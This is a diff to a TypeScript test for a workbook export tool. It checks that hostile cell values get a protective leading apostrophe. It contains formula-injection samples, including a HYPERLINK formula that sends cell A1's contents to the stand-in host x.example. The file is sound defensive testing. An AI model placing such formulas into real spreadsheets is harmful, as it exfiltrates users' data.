@@ -5,6 +5,7 @@ import { sampleAssessment } from '../../../test/fixtures/sample-assessment.js';
 import { ANSWER_LABELS } from '../answers.js';
 import { LOCAL_MGI_FRAMEWORK } from '../frameworks/local-mgi.js';
 import type { NormalizedResponse } from '../types.js';
+import { safeText, unquoteText } from '../workbook/safe-text.js';
 import { consolidatedWorkbookBytes, consolidateToBytes } from './consolidate.js';
 import { CONSOLIDATED_LABELS } from './consolidated-labels.js';
 import { ANSWER_FILLS } from './consolidated-styles.js';
@@ -189,7 +190,7 @@ describe('consolidated workbook (58 agencies, English)', async () => {
     const at = rows.findIndex((row) => row.getCell(1).value === first);
     expect(at).toBeGreaterThan(0);
     const quoted = rows[at + 1]!;
-    const justification = String(quoted.getCell(7).value);
+    const justification = unquoteText(String(quoted.getCell(7).value));
     const cited = [...expected.values()]
       .flat()
       .filter((r) => r.indicatorId === first && r.justification === justification);
@@ -200,11 +201,12 @@ describe('consolidated workbook (58 agencies, English)', async () => {
     const responses = book.getWorksheet(l.sheets.responses)!;
     const texts: unknown[] = [];
     responses.eachRow((row) => texts.push(row.getCell(7).value, row.getCell(8).value));
-    for (const h of HOSTILE.slice(0, 5)) expect(texts).toContain(h);
-    // A CR is stored as a line break by every XML reader; the text still starts with it, not with =.
-    expect(texts).toContain('\n=1+1');
-    expect(texts).toContain('=HYPERLINK("http://x.example/?"&A1,"click") long enough');
-    expect(book.getWorksheet(l.sheets.agencies)!.getRow(2).getCell(2).value).toBe(HOSTILE[0]);
+    // Each carries the apostrophe that keeps it text when someone edits the cell in Excel.
+    for (const h of HOSTILE.slice(0, 5)) expect(texts).toContain(safeText(h));
+    // A CR is stored as a line break by every XML reader; the apostrophe still comes first.
+    expect(texts).toContain("'\n=1+1");
+    expect(texts).toContain(`'=HYPERLINK("http://x.example/?"&A1,"click") long enough`);
+    expect(book.getWorksheet(l.sheets.agencies)!.getRow(2).getCell(2).value).toBe(safeText(HOSTILE[0]!));
     const files = unzipSync(bytes);
     const sheets = Object.keys(files).filter((name) => name.startsWith('xl/worksheets/sheet'));
     expect(sheets).toHaveLength(7);
